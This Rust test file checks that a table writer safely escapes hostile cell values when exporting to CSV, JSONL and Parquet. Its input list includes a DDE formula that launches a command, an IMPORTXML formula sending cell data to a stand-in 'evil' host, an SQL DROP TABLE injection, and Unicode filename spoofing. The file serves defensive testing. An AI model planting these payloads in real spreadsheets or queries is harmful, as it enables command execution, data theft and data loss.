//! What people and machines put into cells to see what happens.

use super::*;

const HOSTILE: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil/?\", A1:A9), \"//a\")",
    "a\r\nb,c;d\te|f\"g\"",
    "\0NUL within\0",
    "\\ud800 is the escape of a lone surrogate",
    "\u{202e}gpj.exe\u{202c} \u{200f}מימין לשמאל\u{200e}",
    "\u{feff}begins with a byte order mark",
    "\\N",
    "\\.",
    "'; DROP TABLE users; --",
    "{\"json\": \"in a text\"}",
    "\u{1b}[2J escape",
    "👩‍👩‍👧 e\u{301} \u{10ffff}",
    " spaces at both ends ",
];

#[test]
fn every_format_takes_everything() {
    let mut rows: Vec<Row> = HOSTILE.iter().map(|cell| vec![Some((*cell).to_owned()), None]).collect();
    rows.push(vec![Some("\"=,;\n".repeat(2 * 1024 * 1024)), Some("1".to_owned())]);
    let columns = vec![Column::new("text", Kind::Text), Column::new("n", Kind::Integer)];
    for (format, packing) in
        [(Format::Csv, Packing::None), (Format::Jsonl, Packing::Gzip), (Format::Parquet, Packing::None)]
    {
        let table = Table { packing, ..Table::new(columns.clone(), format) };
        let (file, _) = write(&table, &rows);
        assert!(!file.is_empty());
        if format == Format::Csv {
            let text = String::from_utf8(file).unwrap();
            assert!(text.contains("\r\n\"'=cmd|' /C calc'!A0\",\r\n"));
            assert!(text.contains("\r\n\"a\r\nb,c;d\te|f\"\"g\"\"\",\r\n"));
            assert!(text.contains("\r\n\" spaces at both ends \",\r\n"));
        }
    }
}
